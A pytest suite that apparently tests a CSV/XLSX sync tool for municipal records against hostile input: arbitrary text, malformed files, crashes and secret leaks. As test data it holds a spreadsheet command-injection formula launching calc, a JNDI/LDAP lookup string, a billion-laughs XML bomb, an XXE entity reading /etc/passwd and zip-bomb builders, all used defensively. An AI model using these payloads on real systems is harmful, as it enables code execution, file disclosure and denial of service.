"""Hostile input (issue 7): arbitrary text, broken files, crashes and secrets.

1. Arbitrary text in every export column (property-based): ``push`` never crashes (exit 0 or
   1), never writes a formula cell, never lets a column outside the protocol into a workbook,
   and never prints a value it was given. A few examples with every ``pytest``, 150 with
   ``-m slow``.
2. Malformed XLSX and CSV (truncated zip, billion laughs, external entities, wrong content
   types, zip bombs of shared strings, NUL bytes, mixed encodings, 100,000 columns, a 50 MB
   line): one clear error line (and a hint), exit 1 or 2. The small files in process with
   every ``pytest``; with ``-m slow`` every file, in a subprocess whose peak memory is
   measured (its peak RSS from /proc/self/status).
3. An unexpected exception inside a command shows its type and place only, exit 5, also with
   ``--json`` and in a log file; a bad ``--log-file`` is a usage error, not a traceback.
4. Data values are never markup; secrets never reach output, logs, the audit trail or files.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import openpyxl
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

import agii_sync
from agii_sync.cli import app
from agii_sync.demo_data import write_export
from agii_sync.domain.codes import ACTIVITY_STATUSES, CEFR_LEVELS, INTERESTS, StatusMO
from agii_sync.domain.export import EXPORT_COLUMNS
from agii_sync.domain.problems import ProblemCode, message_for
from agii_sync.domain.row import COLUMNS
from agii_sync.formats.export_reader import MAX_CELLS_PER_LINE
from fixtures.workspace import MUNICIPALITIES, Workspace, person

SPL = MUNICIPALITIES[0]["id"]
WORKBOOK = Path("Gedeelde documenten", "Participatie traject", "inburgeraars.xlsx")

# --- 1. arbitrary text in every export column --------------------------------------------

PREFIXES = [
    "", "=", "+", "-", "@", "\t", "\r", "\n", " ", "'", '"', ";", ",", "=cmd|' /C calc'!A0 ",
    '=HYPERLINK("http://x.example","', "=1+", "@SUM(", "[bold red]", "[link=http://x.example]",
    "\x1b[31m", "\x1b]0;", "<script>", "${jndi:ldap://x.example/", "%s%n", "{0}", "\u202e",
    "\ufeff", "\x00", "bus ", "geen;", "A1 ",
]  # fmt: skip
SUFFIXES = ["", "[/]", "\x1b[0m", "\n", "\r\n", '"', ";", ")", "\u200b", "\x85", "\x07", "   "]
# A marker is a token nothing else prints: if it shows up in the output, it leaked.
MARKER = st.text(alphabet="bcdfghjkmnpqrstvwxz", min_size=6, max_size=6).map(lambda s: f"Qz{s}Xv")
HOSTILE = st.builds(
    lambda p, m, s: p + m + s, st.sampled_from(PREFIXES), MARKER, st.sampled_from(SUFFIXES)
)
ARBITRARY = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
# A few columns of a valid person get hostile text; free text (names, address) most often,
# since that is what reaches the workbook.
FREE_TEXT = ("naam", "voornaam", "straat", "huisnummer", "bus", "gemeente")
CHANGES = st.dictionaries(
    st.sampled_from([*FREE_TEXT * 6, *EXPORT_COLUMNS, "opmerking_intern"]),
    st.one_of(HOSTILE, HOSTILE, ARBITRARY),
    max_size=4,
)
PEOPLE = st.lists(
    st.tuples(st.integers(1, 60), st.sampled_from(range(len(MUNICIPALITIES))), CHANGES),
    min_size=1,
    max_size=4,
    unique_by=lambda p: p[0],
)


@cache  # made when a test needs it, not when every worker collects the tests
def vocabulary() -> str:
    """Every fixed text the tool may print: a given value found in here is no leak."""
    words = [
        message_for(code, column) for code in ProblemCode for column in (*EXPORT_COLUMNS, None)
    ]
    words += [*EXPORT_COLUMNS, *COLUMNS, *ACTIVITY_STATUSES, *CEFR_LEVELS, *INTERESTS.values()]
    words += [s.value for s in StatusMO] + [m["id"] for m in MUNICIPALITIES]
    words += [m["name"] for m in MUNICIPALITIES] + [m["gemeente"] for m in MUNICIPALITIES]
    words += ["opmerking_intern"]
    # Hypothesis also draws the string constants of the code under test: those the tool
    # prints are fixed text too.
    for source in Path(agii_sync.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(source.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                words.append(node.value)
    return "\n".join(words)


def normal(value: str) -> str:
    return " ".join(unicodedata.normalize("NFC", value).split())


def needles(values: list[str], vocabulary: str) -> set[str]:
    """The given values (as given and as the tool normalises them) that would be a leak if
    printed: at least 6 characters, with a letter or digit, and not fixed text of the tool."""
    folded = vocabulary.casefold()
    found = set()
    for value in values:
        for form in (value.strip(), normal(value)):
            if len(form) >= 6 and any(c.isalnum() for c in form) and form.casefold() not in folded:
                found.add(form)
    return found


def all_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


class Hostile:
    def __init__(self, ws: Workspace, vocabulary: str) -> None:
        self.ws = ws
        self.vocabulary = vocabulary  # fixed text: a given value found in here is no leak

    def __repr__(self) -> str:  # Hypothesis prints the fixture with a failing example
        return f"Hostile({self.ws.root})"


@pytest.fixture
def hostile(workspace: Workspace) -> Hostile:
    """A workspace whose pushes may remove everyone; and the fixed text of its reports (a
    clean push, a rejected one, a broken file): where a given value is no leak."""
    workspace.agii["max_delete"] = "100%"
    outputs = [str(workspace.root)]
    broken = [person(1, 0, telefoon="12", email="x@", postcode="9999", contacttaal="xx")]
    for rows in ([person(1, 0), person(2, 1)], broken, []):
        path = workspace.export(rows or [{"a": "b"}], name="baseline.csv")
        for extra in ((), ("-v",), ("--json",)):
            result = workspace.cli(*extra, "push", str(path))
            outputs += [result.stdout, result.stderr]
    return Hostile(workspace, "\n".join([vocabulary(), *outputs]))


QUICK_EXAMPLES = 5  # every pytest
FULL_EXAMPLES = 150  # -m slow (docs/reliability.md)
FORMATS = st.sampled_from(["csv", "csv,", "xlsx"])
ARBITRARY_TEXT_SETTINGS = {
    "deadline": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
}


@settings(max_examples=QUICK_EXAMPLES, **ARBITRARY_TEXT_SETTINGS)
@given(people=PEOPLE, fmt=FORMATS)
def test_arbitrary_text_in_every_column_never_crashes_leaks_or_becomes_a_formula(
    hostile: Hostile, people: list[tuple[int, int, dict]], fmt: str
) -> None:
    push_arbitrary_text(hostile, people, fmt)


@pytest.mark.slow
@settings(max_examples=FULL_EXAMPLES, **ARBITRARY_TEXT_SETTINGS)
@given(people=PEOPLE, fmt=FORMATS)
def test_arbitrary_text_in_every_column_full_run(
    hostile: Hostile, people: list[tuple[int, int, dict]], fmt: str
) -> None:
    push_arbitrary_text(hostile, people, fmt)


def push_arbitrary_text(hostile: Hostile, people: list[tuple[int, int, dict]], fmt: str) -> None:
    """Push the people (a valid person each, with hostile text in some columns) twice, as text
    and as JSON: no crash, no given value printed, no formula cell, no internal column in a
    workbook."""
    ws, vocabulary = hostile.ws, hostile.vocabulary
    rows = []
    for n, site, cells in people:
        row: dict[str, str] = {**person(n, site), "opmerking_intern": f"Intern{n:04d}notitie"}
        row.update(cells)
        if fmt == "xlsx":  # XML cannot hold these; Excel could not have written them either
            row = {k: ILLEGAL_CHARACTERS_RE.sub("", v) for k, v in row.items()}
        rows.append(row)
    path = ws.root / ("export.xlsx" if fmt == "xlsx" else "export.csv")
    write_export(path, rows, "xlsx" if fmt == "xlsx" else "csv", delimiter=fmt[3:] or ";")

    results = [ws.cli("push", str(path)), ws.cli("--json", "-v", "push", str(path))]

    for result in results:
        # 5 only for the safety stop of a garbled row that names no one (docs/safety.md)
        unaccounted = "name no one it can find" in result.output
        assert result.exit_code in (0, 1) or (result.exit_code == 5 and unaccounted), (
            result.exit_code,
            result.output,
        )
        assert "Traceback" not in result.output and "internal error" not in result.output
    json.loads(results[1].stdout)  # one JSON document, whatever the values
    printed = "\n".join(r.stdout + "\n" + r.stderr for r in results)
    squeezed = "".join(printed.split())
    given_values = [v for row in rows for v in row.values()]
    leaked = [v for v in needles(given_values, vocabulary) if v in printed]
    leaked += [m for v in given_values for m in _markers(v) if m in squeezed]
    assert not leaked, leaked
    shared = {normal(v) for row in rows for k, v in row.items() if k != "opmerking_intern"}
    internal = needles([row["opmerking_intern"] for row in rows], vocabulary) - shared
    for m in MUNICIPALITIES:
        content = ws.workbook_bytes(m["id"])
        if content is None:
            continue
        for cell in all_cells(content):
            assert cell.data_type != "f", (m["id"], cell.coordinate)
            if cell.row > 1 and isinstance(cell.value, str):
                if cell.column != 7 and cell.value.startswith(("=", "+", "-", "@")):
                    event("formula-like text reached a workbook")
                if _markers(cell.value):
                    event("hostile text reached a workbook")
            text = normal(cell.value) if isinstance(cell.value, str) else ""
            assert not any(value in text for value in internal), (m["id"], cell.coordinate)
        assert ws.cli("check", "--site", m["id"]).exit_code in (0, 1)


def _markers(value: str) -> list[str]:
    start = value.find("Qz")
    found = start >= 0 and value[start + 8 : start + 10] == "Xv"
    return [value[start : start + 10]] if found else []


def test_the_leak_check_would_see_a_leak() -> None:
    fixed_text = vocabulary() + "\n3 rows read, 2 valid"
    assert needles(["Naamx0001q", " =QzbcdfghXv\n", "2 valid", "ARA", "lopend"], fixed_text) == {
        "Naamx0001q",
        "=QzbcdfghXv",
    }
    assert _markers("\x1b[31mQzbcdfghXv[/]") == ["QzbcdfghXv"]


# --- 2. malformed files ---------------------------------------------------------------------

MEMORY_LIMIT_MB = 400
# The peak RSS of the process (VmHWM) and of its largest child (a big export is read in a
# forked process), written to stderr at exit.
PEAK_RSS = (
    "import atexit, resource, sys\n"
    "def _peak():\n"
    "    own = next(l for l in open('/proc/self/status') if l.startswith('VmHWM:')).split()[1]\n"
    "    child = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
    "    sys.stderr.write(f'\\nPEAK_RSS_KB {own} {child}\\n')\n"
    "atexit.register(_peak)\n"
    "from agii_sync.cli import main; main()\n"
)
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/'
    'workbook.xml"/></Relationships>'
)
WORKBOOK_XML = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{SHEET_NS}" xmlns:r="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Export" '
    'sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
    'sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)


def _column(index: int) -> str:
    name, index = "", index + 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def shared_strings_xlsx(
    rows: list[list[str]],
    *,
    sst_tail: tuple[str, str, int, str] = ("", "", 0, ""),
    sst: str | None = None,
    types: str | None = None,
) -> bytes:
    """An XLSX as Excel writes one: every text cell points into xl/sharedStrings.xml.
    ``sst_tail`` (before, text, times, after) is appended to the shared strings as
    before + text * times + after, written as a stream."""
    strings: dict[str, int] = {}
    xml_rows = []
    for r, row in enumerate(rows, 1):
        cells = "".join(
            f'<c r="{_column(c)}{r}" t="s"><v>{strings.setdefault(v, len(strings))}</v></c>'
            for c, v in enumerate(row)
        )
        xml_rows.append(f'<row r="{r}">{cells}</row>')
    sheet = f'<worksheet xmlns="{SHEET_NS}"><sheetData>{"".join(xml_rows)}</sheetData></worksheet>'
    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
    head = sst or f'<?xml version="1.0"?><sst xmlns="{SHEET_NS}">{items}'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types or CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK_XML)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(head.encode())
            before, text, times, after = sst_tail
            part.write(before.encode())
            if times:
                per_chunk = max(1, (1 << 20) // len(text))
                full, rest = divmod(times, per_chunk)
                chunk = (text * per_chunk).encode()
                for _ in range(full):
                    part.write(chunk)
                part.write((text * rest).encode())
            part.write(after.encode())
            if sst is None:
                part.write(b"</sst>")
    return buffer.getvalue()


def export_rows(n: int = 2) -> list[list[str]]:
    people = [person(i, 0) for i in range(1, n + 1)]
    return [list(people[0]), *(list(p.values()) for p in people)]


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows(rows)
    return buffer.getvalue()


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + f']><sst xmlns="{SHEET_NS}"><si><t>&lol9;</t></si></sst>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    f'<sst xmlns="{SHEET_NS}"><si><t>&e;</t></si></sst>'
)


def _mixed_encodings() -> bytes:
    rows = export_rows()
    rows[1][2] = "Zoë"
    rows[2][2] = "Zoë"
    head = csv_text(rows[:2]).encode("utf-8")
    return head + csv_text(rows[2:]).encode("cp1252")


def _nul_in_header() -> bytes:
    return csv_text(export_rows()).encode().replace(b"naam", b"na\x00am", 1)


@dataclass(frozen=True)
class Malformed:
    name: str
    build: Callable[[], bytes]
    expected: str  # a fragment of the one error line
    suffix: str = ".csv"
    command: str = "push"
    big: bool = False  # tens of MB or more: only in the slow, measured run


MALFORMED = [
    Malformed(
        "truncated-zip", lambda: shared_strings_xlsx(export_rows())[:900], "not a readable XLSX",
        ".xlsx",
    ),
    Malformed(
        "zip-magic-then-garbage", lambda: b"PK\x03\x04" + bytes(range(256)) * 40,
        "not a readable XLSX", ".xlsx",
    ),
    Malformed(
        "billion-laughs", lambda: shared_strings_xlsx(export_rows(), sst=BILLION_LAUGHS),
        "not a readable XLSX", ".xlsx",
    ),
    Malformed(
        "external-entity", lambda: shared_strings_xlsx(export_rows(), sst=EXTERNAL_ENTITY),
        "not a readable XLSX", ".xlsx",
    ),
    Malformed(
        "wrong-content-types",
        lambda: shared_strings_xlsx(
            export_rows(),
            types=CONTENT_TYPES.replace("sheet.main+xml", "presentation.main+xml").replace(
                "worksheet+xml", "chartsheet+xml"
            ),
        ),
        "not a readable XLSX", ".xlsx",
    ),
    Malformed(
        "no-content-types", lambda: shared_strings_xlsx(export_rows(), types="<Types/>"),
        "not a readable XLSX", ".xlsx",
    ),
    Malformed(
        "one-300-MB-shared-string",
        lambda: shared_strings_xlsx(
            export_rows(), sst_tail=("<si><t>", "x", 300_000_000, "</t></si>")
        ),
        "may unpack to at most", ".xlsx", big=True,
    ),
    Malformed(
        "3-million-shared-strings",
        lambda: shared_strings_xlsx(
            export_rows(), sst_tail=("", "<si><t>abcdefgh</t></si>", 3_000_000, "")
        ),
        "may unpack to at most", ".xlsx", big=True,
    ),
    Malformed(
        "16k-columns-xlsx",  # Excel's widest sheet (XFD)
        lambda: shared_strings_xlsx([[f"k{i}" for i in range(16_384)], ["x"] * 16_384]),
        "cells; at most", ".xlsx", big=True,
    ),
    Malformed("nul-in-header", _nul_in_header, "binary content"),
    Malformed("only-nul-bytes", lambda: b"\x00" * 100_000, "binary content"),
    Malformed("mixed-encodings", _mixed_encodings, "mixed encodings: line 2 is UTF-8, line 3 is"),
    Malformed("utf-16", lambda: csv_text(export_rows()).encode("utf-16"), "UTF-16"),
    Malformed(
        "100k-columns",
        lambda: (";".join(f"kolom{i}" for i in range(100_000)) + "\n").encode(),
        "line 1 has 100,000 cells", big=True,
    ),
    Malformed("50-MB-line", lambda: b"x;" * 25_000_000, "line 1 is longer than", big=True),
    Malformed(
        "50-MB-quoted-cell",
        lambda: csv_text(export_rows()).encode() + b'"' + b"q" * 50_000_000,
        "line 4 is longer than", big=True,
    ),
    Malformed(
        "status-file-50-MB-line", lambda: b"Rij-ID;Status activiteit\n" + b"y" * 50_000_000,
        "line 2 is longer than", command="status-update", big=True,
    ),
]  # fmt: skip


@dataclass
class Finished:
    code: int
    seconds: float
    peak_mb: float
    stdout: str
    stderr_lines: list[str]


def run_measured(ws: Workspace, case: Malformed, path: Path) -> Finished:
    env = {**os.environ, "AGII_SYNC_ROWKEY_SECRET": "malformed-rowkey-secret"}
    config = ws.root / f"{case.name}.toml"  # a run lock of its own: cases run in parallel
    config.write_text(ws.config_path.read_text(), encoding="utf-8")
    args = ["push", str(path)]
    if case.command == "status-update":
        args = ["status-update", "--site", SPL, "--from", str(path)]
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", PEAK_RSS, "--config", str(config), *args],
        cwd=ws.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    seconds = time.monotonic() - started
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    peak = [
        max(int(kb) for kb in line.split()[1:]) / 1024
        for line in lines
        if line.startswith("PEAK_RSS_KB")
    ]
    lines = [line for line in lines if not line.startswith("PEAK_RSS_KB")]
    return Finished(done.returncode, seconds, peak[0] if peak else -1.0, done.stdout, lines)


@pytest.fixture(scope="module")
def malformed_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Finished]:
    """Every malformed file through the real CLI in its own process, two at a time."""
    root = tmp_path_factory.mktemp("malformed")
    ws = Workspace(root, "file")
    ws.write_config()
    paths = {}
    for case in MALFORMED:
        paths[case.name] = root / f"{case.name}{case.suffix}"
        paths[case.name].write_bytes(case.build())
    with ThreadPoolExecutor(2) as pool:
        finished = pool.map(lambda c: run_measured(ws, c, paths[c.name]), MALFORMED)
        results = {case.name: result for case, result in zip(MALFORMED, finished, strict=True)}
    print("\nmalformed inputs (exit, seconds, peak RSS MB):")
    for name, r in results.items():
        print(f"  {name}: exit {r.code}, {r.seconds:.1f} s, {r.peak_mb:.0f} MB")
    return results


def assert_one_clear_error(case: Malformed, code: int, stdout: str, stderr: str) -> None:
    """Exit 1 or 2, nothing on stdout, one ``error:`` line naming the problem, at most one
    ``hint:`` line."""
    assert code in (1, 2), (code, stdout[:500], stderr[:500])
    assert stdout == "", stdout[:500]
    error, *rest = [line for line in stderr.splitlines() if line.strip()]
    assert error.startswith("error: ") and case.expected in error, (error, rest)
    assert len(error) < 300 and all(line.startswith("hint: ") for line in rest), rest
    assert len(rest) <= 1


SMALL = [case for case in MALFORMED if not case.big]


@pytest.mark.parametrize("case", SMALL, ids=[c.name for c in SMALL])
def test_a_malformed_file_is_one_clear_error(workspace: Workspace, case: Malformed) -> None:
    """The small files in process, with every pytest; all of them, the big ones included,
    in their own measured process in the slow run below."""
    path = workspace.root / f"{case.name}{case.suffix}"
    path.write_bytes(case.build())
    args = ["push", str(path)]
    if case.command == "status-update":
        args = ["status-update", "--site", SPL, "--from", str(path)]
    result = workspace.cli(*args)
    assert_one_clear_error(case, result.exit_code, result.stdout, result.stderr)


@pytest.mark.slow
@pytest.mark.parametrize("case", MALFORMED, ids=[c.name for c in MALFORMED])
def test_a_malformed_file_is_one_clear_error_in_bounded_memory(
    malformed_results: dict[str, Finished], case: Malformed
) -> None:
    result = malformed_results[case.name]
    assert_one_clear_error(case, result.code, result.stdout, "\n".join(result.stderr_lines))
    # Work is bounded by counts (tests/test_bounded_work.py), never by the clock here: the
    # subprocess's own timeout only keeps a hang from stalling the suite.
    if result.peak_mb >= 0:  # /proc/self/status: Linux
        assert result.peak_mb < MEMORY_LIMIT_MB, result


def test_a_nul_byte_in_a_cell_rejects_that_row_only(workspace: Workspace) -> None:
    rows = export_rows(3)
    rows[2][2] = "Jo\x00s"
    path = workspace.root / "nul.csv"
    path.write_bytes(csv_text(rows).encode())
    result = workspace.cli("--json", "push", str(path))
    assert result.exit_code == 1
    doc = json.loads(result.stdout)
    problems = [(p["line"], p["column"], p["code"]) for p in doc["export"]["problems"]]
    assert problems == [(3, "naam", "control_character")]
    assert [r["Naam"] for r in workspace.rows(SPL)] == ["Naamx0001q", "Naamx0003q"]


def test_many_unknown_columns_are_named_but_not_all_in_the_text_report(
    workspace: Workspace,
) -> None:
    extra = {f"intern{i}": "x" for i in range(MAX_CELLS_PER_LINE - len(EXPORT_COLUMNS))}
    path = workspace.export([person(1, 0) | extra])
    result = workspace.cli("push", str(path))
    assert result.exit_code == 0, result.output
    printed = " ".join(result.stdout.split())
    assert f"(column 36) and {len(extra) - 20} more" in printed  # 20 named, by position
    assert "intern" not in printed  # cells that do not look like our header are never echoed
    doc = json.loads(workspace.cli("--json", "push", str(path)).stdout)
    assert len(doc["export"]["unknown_columns"]) == len(extra)


# --- 3. unexpected exceptions -----------------------------------------------------------------

SECRET_PERSON = "Geheimx Persoonsnaam-0042"


def _crash(*args: Any, **kwargs: Any) -> Any:
    raise ValueError(f"could not handle {SECRET_PERSON} at Geheimstraat 9")


@pytest.mark.parametrize(
    "target",
    ["agii_sync.runs.push.push", "agii_sync.runs.push.push_site"],  # push: what the command calls
    ids=["in-the-command", "in-a-site-worker-thread"],
)
@pytest.mark.parametrize("json_mode", [False, True], ids=["text", "json"])
def test_an_unexpected_exception_shows_type_and_place_only(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch, target: str, json_mode: bool
) -> None:
    monkeypatch.setattr(target, _crash)
    log_file = workspace.root / "logs" / "run.jsonl"
    args = ["--log-file", str(log_file), "-v", *(["--json"] if json_mode else [])]
    result = workspace.cli(*args, "push", str(workspace.export([person(1, 0)])))
    assert result.exit_code == 5
    audit = workspace.root / "var" / "audit.jsonl"
    texts = [result.stdout, result.stderr, log_file.read_text()]
    texts += [audit.read_text()] if audit.exists() else []
    for text in texts:
        assert "Geheim" not in text and "Traceback" not in text
    assert "internal error ValueError at test_hostile_input.py:" in result.stderr
    if json_mode:
        doc = json.loads(result.stdout)
        assert doc["exit_code"] == 5 and doc["error"]["type"] == "InternalError"
    else:
        assert result.stdout == ""
    events = [json.loads(line) for line in log_file.read_text().splitlines()]
    assert any(e["event"] == "run.crashed" and e["error"] == "ValueError" for e in events)


@pytest.mark.parametrize("where", ["missing-folder/run.log", "."], ids=["no-folder", "a-folder"])
def test_a_log_file_that_cannot_be_opened_is_a_usage_error(
    workspace: Workspace, where: str
) -> None:
    workspace.write_config()
    target = "/proc/agii-sync-none/run.log" if where.startswith("missing") else str(workspace.root)
    done = subprocess.run(
        [sys.executable, "-c", "from agii_sync.cli import main; main()"]
        + ["--config", str(workspace.config_path), "--log-file", target, "check"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith(f"error: --log-file {target}: cannot open it")
    assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1


# --- 4. markup and secrets --------------------------------------------------------------------

MARKUP = {
    "naam": "[b]Rood",  # short enough not to be folded in the table's column
    "voornaam": "[i]X[/]",
    "straat": "[link=https://x.example]klik[/link] :warning:",
    "gemeente": "[bold red]Sint-Pieters-Leeuw[/]",
}


def test_markup_in_data_is_printed_literally(workspace: Workspace) -> None:
    assert workspace.cli("push", str(workspace.export([person(1, 0, **MARKUP)]))).exit_code == 0
    table = workspace.cli("list", "--site", SPL)
    assert table.exit_code == 0, table.output
    assert "[b]Rood" in table.stdout and "[i]X[/]" in table.stdout  # not "Rood", "X"
    assert "\x1b" not in table.stdout and "⚠" not in table.stdout
    as_csv = workspace.cli("list", "--site", SPL, "--format", "csv").stdout
    as_json = json.loads(workspace.cli("list", "--site", SPL, "--format", "json").stdout)
    for column, value in MARKUP.items():
        assert value in as_csv
        shown = "Adres" if column == "straat" else column.capitalize()
        assert as_json["people"][0][shown].startswith(value)
    missing = workspace.cli("validate", str(workspace.root / "[bold]weg[/].csv"))
    assert missing.exit_code == 2 and "[bold]weg[/].csv" in missing.stderr


ROWKEY_SECRET = "rowkey-Sekr3t-7f1c9e2a4b6d8f0a"
PEM_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDQx7hostileTESTkey0"
PEM = f"-----BEGIN PRIVATE KEY-----\n{PEM_BODY}\n-----END PRIVATE KEY-----\n"


def test_secrets_never_reach_output_logs_audit_or_files(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch, memory_keyring: Any
) -> None:
    monkeypatch.setenv("AGII_SYNC_ROWKEY_SECRET", ROWKEY_SECRET)
    monkeypatch.setenv("AGII_SYNC_CERT_KEY", PEM)
    workspace.agii["max_delete"] = "100%"
    export = workspace.export([person(n, n % 3) for n in range(1, 7)])
    outputs: list[str] = []

    def cli(*args: str, codes: tuple[int, ...] = (0,), input: str | None = None) -> Any:
        for log in ("json", "text"):
            log_file = workspace.root / "logs" / f"run.{log}"
            result = workspace.cli(
                "--log-file", str(log_file), "--log-format", log, "-v", *args, input=input
            )
            assert result.exit_code in codes, (args, result.output)
            outputs.extend([result.stdout, result.stderr])
        return result

    cli("init")
    cli("--json", "push", str(export))
    row_id = workspace.rows(SPL)[0]["Rij-ID"]
    cli("status-update", "--site", SPL, row_id, "Gecontacteerd")
    cli("list", "--site", SPL, "--format", "json")
    cli("check")
    cli("validate", str(export))
    cli("pull-status", str(export), "--out", str(workspace.root / "pulled.csv"), "--force")
    cli("purge", "--dry-run")
    for m in MUNICIPALITIES:
        email = f"staff@{m['id']}.be"
        principal = {"type": "user", "title": "Staff", "login": f"i:0#.f|membership|{email}"}
        principal["email"] = email
        access = {"role_assignments": [{"principal": principal, "roles": ["Contribute"]}]}
        (workspace.root / "sites" / m["id"] / "_access.json").write_text(json.dumps(access))
    cli("access-check")
    cli("audit", "show")
    cli("audit", "verify")
    cli("login", "--rowkey-secret-stdin", input=ROWKEY_SECRET + "\n")
    assert memory_keyring.get_password("agii-sync", "rowkey-secret") == ROWKEY_SECRET

    not_a_key = workspace.root / "not-a-key.pem"
    not_a_key.write_text(f"token = {ROWKEY_SECRET}\n", encoding="utf-8")
    cli("login", "--certificate-key", str(not_a_key), codes=(2,))
    cli("login", "--certificate-key", str(workspace.root / "missing.pem"), codes=(2,))

    secret_config = workspace.root / "secret.toml"
    secret_config.write_text(
        workspace.config_path.read_text() + f'\n[auth]\nclient_secret = "{ROWKEY_SECRET}"\n'
    )
    result = workspace.runner.invoke(app, ["--config", str(secret_config), "check"])
    assert result.exit_code == 2 and "secret" in result.output
    outputs += [result.stdout, result.stderr]
    secret_config.unlink()  # the file the test wrote on purpose; everything else is checked

    texts = {f"output {i}": text for i, text in enumerate(outputs)}
    for path in workspace.root.rglob("*"):
        if path.is_file() and path.suffix != ".xlsx" and path.name != "not-a-key.pem":
            texts[str(path)] = path.read_bytes().decode("utf-8", "replace")
        elif path.suffix == ".xlsx":
            texts[str(path)] = "\n".join(str(c.value) for c in all_cells(path.read_bytes()))
    forms = {ROWKEY_SECRET, ROWKEY_SECRET.encode().hex(), PEM_BODY, PEM_BODY[:24]}
    hits = [(name, form) for name, text in texts.items() for form in forms if form in text]
    assert not hits, hits
    assert len(texts) > 20
